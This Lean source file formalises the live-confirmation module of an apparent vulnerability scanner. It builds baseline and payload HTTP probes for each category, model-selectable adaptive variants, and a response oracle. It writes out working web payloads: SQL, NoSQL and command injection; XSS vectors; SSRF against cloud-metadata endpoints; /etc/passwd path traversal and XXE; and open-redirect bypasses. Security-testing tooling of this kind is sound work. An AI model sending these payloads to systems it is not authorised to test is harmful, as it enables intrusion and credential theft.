import Mathlib.Data.List.SplitOn
import MontrSecure.Confirm.Heuristics

/-!
# The probes of live confirmation

`packages/confirm/src/live.ts`: the requests that are crafted for a finding, the variants that a model may
choose from after an ambiguous response, and how responses are judged.
-/

namespace MontrSecure.Confirm

/-! ## Percent encoding -/

/-- A hexadecimal digit, as it is percent-encoded. -/
def upperHexDigit (n : ℕ) : Char := "0123456789ABCDEF".toList.getD n '0'

/-- A character that `encodeURIComponent` keeps. -/
def isUnreserved (c : Char) : Bool :=
  c.isAlphanum || decide (c ∈ ['-', '_', '.', '!', '~', '*', '\'', '(', ')'])

/-- `encodeURIComponent`. -/
def encodeURIComponent (s : String) : String :=
  String.ofList (s.toList.flatMap fun c =>
    if isUnreserved c then [c]
    else (String.utf8EncodeChar c).flatMap fun b =>
      ['%', upperHexDigit (b.toNat / 16), upperHexDigit (b.toNat % 16)])

/-! ## Probes -/

/-- `AuthenticatedSession`; its cookies are not read. -/
structure AuthenticatedSession where
  headers : Option (List (String × String)) := none

/-- The role of a probe. -/
inductive ProbeRole where
  | baseline
  | payload
  | adaptivePayload
  deriving DecidableEq

/-- `Probe`. -/
structure Probe where
  request : LiveHttpRequest
  role : ProbeRole
  marker : Option String := none
  note : String

namespace Live

/-- A header is set in place, or added. -/
def withHeader (headers : List (String × String)) (h : String × String) : List (String × String) :=
  if headers.any (·.1 = h.1) then headers.map fun g => if g.1 = h.1 then h else g else headers ++ [h]

/-- `{ ...headers, ...others }`. -/
def withHeaders (headers others : List (String × String)) : List (String × String) :=
  others.foldl withHeader headers

/-- `concretePath`. -/
def concretePath (path : String) : String :=
  let q := replaceSegments path.toList.length path.toList
  String.ofList (replaceParams q.length q)

/-- `paramFor`. -/
def paramFor (appMap : AppMap) (finding : ProbableFinding) (fallback : String) : String :=
  let byRoute := finding.routeId.bind fun id =>
    if id = "" then none else appMap.taintSources.find? (·.routeId = some id)
  let src := byRoute.or (appMap.taintSources.find? (·.location.file = finding.location.file))
  (extractParam {} (src.bind (·.description))).getD fallback

/-- `CATEGORY_DEFAULT_PARAM`. -/
def categoryDefaultParam : Category → Option String
  | .sqlInjection | .nosqlInjection | .xss => some "q"
  | .openRedirect => some "next"
  | .ssrf => some "url"
  | .idor => some "id"
  | .pathTraversal => some "file"
  | .commandInjection => some "cmd"
  | _ => none

/-- `VariantBuildCtx`. -/
structure VariantBuildCtx where
  target : String
  path : String
  plainUrl : String
  param : String
  headers : List (String × String)
  marker : String

/-- The context of the probes for a finding. -/
def buildCtx (appMap : AppMap) (finding : ProbableFinding) (route : Option Route) (target : String)
    (session : Option AuthenticatedSession) (marker : String) : VariantBuildCtx :=
  let path := concretePath ((route.map (·.path)).getD "/")
  { target, path, marker, plainUrl := stripSlash target ++ path
    param := paramFor appMap finding ((categoryDefaultParam finding.category).getD "q")
    headers := withHeaders [("accept", "*/*")] ((session.bind (·.headers)).getD []) }

/-- `finding.id.replace(/[^a-z0-9]/gi, "")`, after a word. -/
def markerOf (word : String) (finding : ProbableFinding) : String :=
  word ++ String.ofList (finding.id.toList.filter Char.isAlphanum)

/-- `variantUrl`. -/
def variantUrl (ctx : VariantBuildCtx) (query : String) : String :=
  stripSlash ctx.target ++ ctx.path ++ "?" ++ query

/-- A parameter with a value. -/
def assignment (param value : String) : String := encodeURIComponent param ++ "=" ++ encodeURIComponent value

/-- A probe that gets the URL with a query. -/
def getProbe (ctx : VariantBuildCtx) (role : ProbeRole) (query note : String) (marker : Option String := none) :
    Probe :=
  { request := { method := "GET", url := variantUrl ctx query, headers := some ctx.headers }, role, marker, note }

/-- A probe that gets the plain URL with some headers. -/
def plainProbe (ctx : VariantBuildCtx) (role : ProbeRole) (headers : List (String × String)) (note : String) :
    Probe :=
  { request := { method := "GET", url := ctx.plainUrl, headers := some headers }, role, note }

/-- A probe that posts a body of some content type. -/
def postProbe (ctx : VariantBuildCtx) (role : ProbeRole) (contentType body note : String)
    (marker : Option String := none) : Probe :=
  { request :=
      { method := "POST", url := ctx.plainUrl, body := some body
        headers := some (withHeader ctx.headers ("content-type", contentType)) }
    role, marker, note }

/-- A request with a benign value. -/
def baselineProbe (ctx : VariantBuildCtx) : Probe :=
  getProbe ctx .baseline (encodeURIComponent ctx.param ++ "=montr_baseline") "baseline request (benign value)"

/-- The probes for a category, with the marker of the context where they have one. -/
def craftFor (ctx : VariantBuildCtx) (finding : ProbableFinding) (session : Option AuthenticatedSession) :
    List Probe :=
  let marked (word : String) : String := markerOf word finding
  match finding.category with
  | .sqlInjection =>
    [baselineProbe ctx,
      getProbe ctx .payload (assignment ctx.param "montr' OR '1'='1")
        "boolean-based SQLi payload (' OR '1'='1)"]
  | .nosqlInjection =>
    [baselineProbe ctx,
      getProbe ctx .payload (assignment (ctx.param ++ "[$ne]") "montr_nosqli_disallowed")
        "NoSQL operator-injection payload ($ne bracket-notation query param)"]
  | .xss =>
    [getProbe ctx .payload (assignment ctx.param ("<script>" ++ marked "montrXSS" ++ "</script>"))
      "reflected-XSS payload" (some (marked "montrXSS"))]
  | .openRedirect =>
    [getProbe ctx .payload (assignment ctx.param "https://montr-oob.example/redirected")
      "open-redirect payload (off-site next=)" (some "https://montr-oob.example/redirected")]
  | .ssrf =>
    [getProbe ctx .baseline (assignment ctx.param "https://example.com/health")
        "baseline request (benign external URL)",
      getProbe ctx .payload (assignment ctx.param "http://169.254.169.254/latest/meta-data/")
        "SSRF payload targeting the cloud-metadata address"]
  | .idor =>
    [getProbe ctx .baseline (encodeURIComponent ctx.param ++ "=1") "baseline request (id=1)",
      getProbe ctx .payload (encodeURIComponent ctx.param ++ "=2")
        "IDOR payload — same session, a different resource id (id=2)"]
  | .brokenAccessControl =>
    -- without credentials there is nothing to strip
    if ((session.bind (·.headers)).getD []).isEmpty then []
    else
      [plainProbe ctx .baseline ctx.headers "baseline request WITH session credentials",
        plainProbe ctx .payload [("accept", "*/*")]
          "authz-bypass payload — identical request with session/auth headers stripped"]
  | .pathTraversal =>
    [getProbe ctx .baseline (assignment ctx.param "readme.txt") "baseline request (benign filename)",
      getProbe ctx .payload (assignment ctx.param "../../../../../../etc/passwd")
        "path-traversal payload (../ sequence targeting /etc/passwd)"]
  | .commandInjection =>
    [baselineProbe ctx,
      getProbe ctx .payload (assignment ctx.param ("montr_baseline; echo " ++ marked "montrCMD"))
        "command-injection payload (chained \x60echo\x60 of a unique marker)" (some (marked "montrCMD"))]
  | .xxe =>
    [postProbe ctx .baseline "application/xml"
        "<?xml version=\"1.0\"?><root><value>montr_baseline</value></root>"
        "baseline XML POST (benign body, no external entity)",
      postProbe ctx .payload "application/xml"
        ("<?xml version=\"1.0\"?><!DOCTYPE montr [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" ++
          "<root><value>&xxe;</value></root>")
        "XXE payload (external entity resolving /etc/passwd — read-only, non-destructive)"]
  | .insecureDeserialization =>
    [postProbe ctx .baseline "application/json" "\x7b\"value\":\"montr_baseline\"\x7d"
        "baseline JSON POST (benign body)",
      postProbe ctx .payload "application/json"
        ("\x7b\"@type\":\"" ++ marked "montrDeser" ++
          "\",\"value\":\"montr_baseline\",\"__proto__\":\x7b\"polluted\":true\x7d\x7d")
        "deserialization-probe payload (malformed typed object; no gadget chain)"
        (some (marked "montrDeser"))]
  | _ => []

/-- `craftProbes`. -/
def craftProbes (appMap : AppMap) (finding : ProbableFinding) (route : Option Route) (target : String)
    (session : Option AuthenticatedSession) : List Probe :=
  craftFor (buildCtx appMap finding route target session "") finding session

/-! ## Variants -/

/-- `PayloadVariant`; its technique is only shown to the model. -/
structure PayloadVariant where
  id : String
  build : VariantBuildCtx → Probe

/-- A variant with another value for the parameter. -/
def valueVariant (id : String) (value : VariantBuildCtx → String) (note : String)
    (marker : VariantBuildCtx → Option String := fun _ => none) : PayloadVariant where
  id := id
  build ctx := getProbe ctx .adaptivePayload (assignment ctx.param (value ctx)) note (marker ctx)

/-- A variant with an operator behind the parameter. -/
def operatorVariant (id operator value note : String) : PayloadVariant where
  id := id
  build ctx := getProbe ctx .adaptivePayload (assignment (ctx.param ++ operator) value) note

/-- A variant with another identifier of a resource. -/
def idVariant (id query note : String) : PayloadVariant where
  id := id
  build ctx := getProbe ctx .adaptivePayload (encodeURIComponent ctx.param ++ query) note

/-- A variant without one of the headers. -/
def strippedVariant (id header note : String) : PayloadVariant where
  id := id
  build ctx := plainProbe ctx .adaptivePayload (ctx.headers.filter (·.1 ≠ header)) note

/-- A variant with a body. -/
def bodyVariant (id contentType : String) (body : VariantBuildCtx → String) (note : String)
    (marker : VariantBuildCtx → Option String := fun _ => none) : PayloadVariant where
  id := id
  build ctx := postProbe ctx .adaptivePayload contentType (body ctx) note (marker ctx)

/-- `PAYLOAD_VARIANTS`. -/
def payloadVariants : Category → List PayloadVariant
  | .sqlInjection =>
    [valueVariant "comment_dash" (fun _ => "montr' OR '1'='1' -- -")
        "adaptive SQLi payload (-- comment-style terminator)",
      valueVariant "boolean_blind_hash" (fun _ => "montr' OR 1=1#")
        "adaptive SQLi payload (# comment, numeric boolean-blind)",
      valueVariant "union_probe" (fun _ => "montr' UNION SELECT NULL-- -")
        "adaptive SQLi payload (UNION-based column probe)",
      valueVariant "time_based_blind" (fun _ => "montr' OR SLEEP(0)-- -")
        "adaptive SQLi payload (time-based blind, SLEEP(0) — non-destructive)"]
  | .nosqlInjection =>
    [operatorVariant "gt_operator" "[$gt]" "" "adaptive NoSQL payload ($gt bracket-notation operator)",
      operatorVariant "regex_operator" "[$regex]" ".*"
        "adaptive NoSQL payload ($regex bracket-notation operator)",
      operatorVariant "exists_operator" "[$exists]" "true"
        "adaptive NoSQL payload ($exists bracket-notation operator)"]
  | .ssrf =>
    [valueVariant "decimal_ip" (fun _ => "http://2852039166/latest/meta-data/")
        "adaptive SSRF payload (decimal IP encoding)",
      valueVariant "ipv6_mapped" (fun _ => "http://[::ffff:169.254.169.254]/latest/meta-data/")
        "adaptive SSRF payload (IPv6-mapped-IPv4 encoding)",
      { id := "alt_cloud_metadata"
        build := fun ctx =>
          getProbe { ctx with headers := withHeader ctx.headers ("metadata-flavor", "Google") } .adaptivePayload
            (assignment ctx.param "http://metadata.google.internal/computeMetadata/v1/")
            "adaptive SSRF payload (GCP metadata hostname)" }]
  | .xss =>
    [valueVariant "attr_breakout" (fun ctx => "\" onmouseover=" ++ ctx.marker ++ " x=\"")
        "adaptive XSS payload (attribute breakout)" fun ctx => some ctx.marker,
      valueVariant "img_vector" (fun ctx => "<img src=x onerror=" ++ ctx.marker ++ ">")
        "adaptive XSS payload (<img onerror> vector)" fun ctx => some ctx.marker,
      valueVariant "svg_vector" (fun ctx => "<svg onload=" ++ ctx.marker ++ ">")
        "adaptive XSS payload (<svg onload> vector)" fun ctx => some ctx.marker]
  | .openRedirect =>
    [valueVariant "protocol_relative" (fun _ => "//montr-oob.example/redirected")
        "adaptive open-redirect payload (protocol-relative)" fun _ => some "//montr-oob.example",
      valueVariant "backslash_bypass" (fun _ => "/\\montr-oob.example/redirected")
        "adaptive open-redirect payload (backslash bypass)" fun _ => some "/\\montr-oob.example",
      valueVariant "at_sign_bypass" (fun _ => "https://trusted.example@montr-oob.example/redirected")
        "adaptive open-redirect payload (userinfo @ bypass)"
        fun _ => some "https://trusted.example@montr-oob.example"]
  | .idor =>
    [idVariant "far_id" "=999" "adaptive IDOR payload (distant id=999)",
      idVariant "negative_id" "=-1" "adaptive IDOR payload (negative id=-1)"]
  | .brokenAccessControl =>
    [strippedVariant "strip_cookie_only" "cookie" "adaptive authz-bypass payload (cookie stripped only)",
      strippedVariant "strip_authorization_only" "authorization"
        "adaptive authz-bypass payload (Authorization header stripped only)"]
  | .pathTraversal =>
    [valueVariant "url_encoded_slashes" (fun _ => "..%2f..%2f..%2f..%2f..%2f..%2fetc/passwd")
        "adaptive path-traversal payload (URL-encoded slashes)",
      valueVariant "double_encoded" (fun _ => "..%252f..%252f..%252f..%252f..%252f..%252fetc/passwd")
        "adaptive path-traversal payload (double URL-encoded slashes)",
      valueVariant "null_byte" (fun _ => "../../../../../../etc/passwd%00.txt")
        "adaptive path-traversal payload (null-byte suffix)"]
  | .commandInjection =>
    [valueVariant "pipe_style" (fun ctx => "montr_baseline | echo " ++ ctx.marker)
        "adaptive command-injection payload (pipe chaining)" fun ctx => some ctx.marker,
      valueVariant "backtick_style" (fun ctx => "montr_baseline \x60echo " ++ ctx.marker ++ "\x60")
        "adaptive command-injection payload (backtick substitution)" fun ctx => some ctx.marker,
      valueVariant "dollar_paren_style" (fun ctx => "montr_baseline $(echo " ++ ctx.marker ++ ")")
        "adaptive command-injection payload ($() substitution)" fun ctx => some ctx.marker]
  | .xxe =>
    [bodyVariant "alt_target_file" "application/xml"
        (fun _ => "<?xml version=\"1.0\"?><!DOCTYPE montr [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]>" ++
          "<root><value>&xxe;</value></root>")
        "adaptive XXE payload (alternate target file: /etc/hostname)",
      bodyVariant "parameter_entity" "application/xml"
        (fun _ => "<?xml version=\"1.0\"?><!DOCTYPE montr [<!ENTITY % xxe SYSTEM \"file:///etc/hostname\">" ++
          "<!ENTITY % wrap \"<!ENTITY combined '%xxe;'>\">%wrap;]>" ++
          "<root><value>&combined;</value></root>")
        "adaptive XXE payload (parameter-entity indirection)"]
  | .insecureDeserialization =>
    [bodyVariant "alt_type_marker" "application/json"
        (fun ctx => "\x7b\"@class\":\"" ++ ctx.marker ++ "\",\"value\":\"montr_baseline\"\x7d")
        "adaptive deserialization payload (alternate @class typed marker)" fun ctx => some ctx.marker,
      bodyVariant "nested_polluted" "application/json"
        (fun ctx => "\x7b\"@type\":\"" ++ ctx.marker ++
          "\",\"value\":\x7b\"__proto__\":\x7b\"nested\":\x7b\"polluted\":true\x7d\x7d\x7d\x7d")
        "adaptive deserialization payload (nested prototype-pollution shape)" fun ctx => some ctx.marker]
  | _ => []

/-- `buildComposedProbe`. -/
def buildComposedProbe (category : Category) (ctx : VariantBuildCtx) (value : String) : Probe :=
  getProbe ctx .adaptivePayload (assignment ctx.param value)
    s!"adaptive composed {category.name} payload (model-authored, safety-validated)"
    (if category = .xss ∨ category = .commandInjection then some ctx.marker else none)

end Live

end MontrSecure.Confirm

/-!
## How live responses are judged

The oracle of `packages/confirm/src/live.ts`, which says for each category what a response proves, and
`isAmbiguous`, which says when a response that proves nothing deserves another attempt.
-/

namespace MontrSecure.Confirm.Live

/-- `Collected`. -/
structure Collected where
  probe : Probe
  response : LiveHttpResponse

/-- `INJECTION_ERROR_MARKERS`. -/
def injectionErrorMarkers : List String :=
  ["sql syntax", "syntax error", "sqlite", "sqlstate", "pg::", "ora-", "you have an error in your sql",
    "unclosed quotation", "mongoerror", "bsonerror", "castmongoerror", "e11000", "cast to string failed"]

/-- `SSRF_MARKERS`. -/
def ssrfMarkers : List String :=
  ["ami-id", "instance-id", "iam/security-credentials", "security-credentials", "computemetadata",
    "metadata-flavor", "local-ipv4", "instance-action"]

/-- `DENIAL_MARKERS`. -/
def denialMarkers : List String :=
  ["forbidden", "unauthorized", "access denied", "permission denied", "not found", "no access", "not allowed"]

/-- `FILE_DISCLOSURE_MARKERS`. -/
def fileDisclosureMarkers : List String := ["root:x:0:0:", "daemon:x:", "bin:x:", "nobody:x:"]

/-- `DESERIALIZATION_ERROR_MARKERS`. -/
def deserializationErrorMarkers : List String :=
  ["invalidclassexception", "classnotfoundexception", "unpicklingerror", "malformed",
    "could not deserialize", "deserialization", "illegal argument: class", "not a valid", "unexpected token"]

/-- `GENERIC_ERROR_MARKERS`. -/
def genericErrorMarkers : List String :=
  ["exception", "stack trace", "traceback", "internal server error", "unexpected error", "unhandled",
    "at line", "warning:"]

/-- `FILTER_BLOCK_MARKERS`. -/
def filterBlockMarkers : List String :=
  ["blocked", "not allowed", "invalid url", "invalid host", "disallowed", "filtered", "forbidden host"]

/-- `Verdict`. -/
structure Verdict where
  success : Bool
  note : String

/-- The latest response to a payload. -/
def latestPayload (collected : List Collected) : Option Collected :=
  collected.reverse.find? fun c => decide (c.probe.role = .payload) || decide (c.probe.role = .adaptivePayload)

/-- The first response to a baseline. -/
def firstBaseline (collected : List Collected) : Option Collected :=
  collected.find? (·.probe.role = .baseline)

/-- One of the markers is in the text. -/
def anyMarker (markers : List String) (text : String) : Bool := markers.any (includes text)

/-- A status of success. -/
def isOk (status : ℕ) : Bool := 200 ≤ status && status < 300

/-- A status of redirection. -/
def isRedirect (status : ℕ) : Bool := 300 ≤ status && status < 400

/-- `response.headers?.location ?? response.headers?.Location ?? ""`. -/
def locationOf (response : LiveHttpResponse) : String :=
  let headers := response.headers.getD []
  ((headers.lookup "location").or (headers.lookup "Location")).getD ""

/-- `marker.split("/").slice(0, 3).join("/")`. -/
def originOf (marker : String) : String :=
  "/".intercalate (((marker.toList.splitOn '/').take 3).map String.ofList)

/-- A marker between the tags of a script. -/
def scriptOf (marker : String) : String := "<script>" ++ marker ++ "</script>"

/-- A marker after an escaped tag. -/
def escapedScriptOf (marker : String) : String := "&lt;script&gt;" ++ marker

variable (toLowerCase : String → String) (category : Category)

/-- `oracle`, of a payload that was answered. -/
def judge (payload : Collected) (baseline : Option Collected) : Verdict :=
  let response := payload.response
  let body := response.body
  let lower := toLowerCase body
  let marker := payload.probe.marker.getD ""
  let success (note : String) : Verdict := { success := true, note }
  let miss (note : String) : Verdict := { success := false, note }
  match category with
  | .sqlInjection | .nosqlInjection =>
    if anyMarker injectionErrorMarkers lower then
      success "DB error leaked in the response (injection reached the query)"
    else if isOk response.status &&
        baseline.any fun b => Text.length b.response.body + 20 ≤ Text.length body then
      success "boolean-true/operator payload returned materially more data than the baseline"
    else miss "no injection signal (response matched baseline, no error leak)"
  | .xss =>
    if marker ≠ "" ∧ includes body (scriptOf marker) = true then
      success "payload reflected unescaped in the response body"
    else if marker ≠ "" ∧ includes body (escapedScriptOf marker) = true then
      miss "payload reflected but HTML-escaped (not exploitable)"
    else miss "payload not reflected"
  | .openRedirect =>
    if isRedirect response.status ∧ marker ≠ "" ∧
        (originOf marker).toList.isPrefixOf (locationOf response).toList = true then
      success s!"redirect Location honored the attacker-controlled target ({response.status})"
    else miss "no off-site redirect observed"
  | .ssrf =>
    if anyMarker ssrfMarkers lower then
      success "response leaked cloud-metadata contents fetched via the server-side request"
    else miss "no metadata-service signal (server did not appear to fetch the internal URL)"
  | .idor =>
    match baseline with
    | none => miss "no baseline response captured"
    | some b =>
      if isOk response.status && !anyMarker denialMarkers lower && trim body ≠ "" && body ≠ b.response.body then
        success "a different resource id returned distinct data with no ownership check (IDOR)"
      else miss "access to the other resource id was denied or unchanged (no IDOR signal)"
  | .brokenAccessControl =>
    match baseline with
    | none => miss "no baseline response captured"
    | some b =>
      if isOk b.response.status && isOk response.status then
        success ("the route returned a successful response even after auth/session headers were stripped " ++
          "(missing access control)")
      else miss "access without credentials was correctly denied"
  | .pathTraversal | .xxe =>
    if anyMarker fileDisclosureMarkers lower then
      success ("payload disclosed local file contents (/etc/passwd signature), proving the traversal/entity " ++
        "reached the filesystem")
    else miss "no file-disclosure signal in the response"
  | .commandInjection =>
    if marker ≠ "" ∧ includes body marker = true then
      success "injected shell command executed — its marker output was reflected in the response"
    else miss "marker not reflected; no command-injection signal"
  | .insecureDeserialization =>
    let marker := toLowerCase marker
    if anyMarker deserializationErrorMarkers lower = true ∨ marker ≠ "" ∧ includes lower marker = true then
      success ("malformed typed payload triggered a deserialization-layer error/echo, proving " ++
        "attacker-controlled data reaches the deserializer")
    else miss "no deserialization-error or type-echo signal"
  | _ => miss "category has no live oracle"

/-- `oracle`. -/
def oracle (collected : List Collected) : Verdict :=
  match latestPayload collected with
  | none => { success := false, note := "no payload response captured" }
  | some payload => judge toLowerCase category payload (firstBaseline collected)

/-- A response to a payload that failed, and proves nothing, is worth another attempt. -/
def hintsAt (payload : Collected) : Bool :=
  let response := payload.response
  let body := toLowerCase response.body
  match category with
  | .sqlInjection | .nosqlInjection | .commandInjection | .pathTraversal | .xxe | .insecureDeserialization
  | .idor | .brokenAccessControl => anyMarker genericErrorMarkers body
  | .ssrf => anyMarker filterBlockMarkers body || response.status = 400 || response.status = 403
  | .xss =>
    let marker := toLowerCase (payload.probe.marker.getD "")
    decide (marker ≠ "") && includes body marker && !includes body (scriptOf marker) &&
      !includes body (escapedScriptOf marker)
  | .openRedirect => isRedirect response.status && decide (toLowerCase (locationOf response) ≠ "")
  | _ => false

/-- `isAmbiguous`. -/
def isAmbiguous (collected : List Collected) : Bool :=
  match latestPayload collected with
  | none => false
  | some payload =>
    if 500 ≤ payload.response.status &&
        !(firstBaseline collected).any fun b => decide (500 ≤ b.response.status) then true
    else hintsAt toLowerCase category payload

end MontrSecure.Confirm.Live
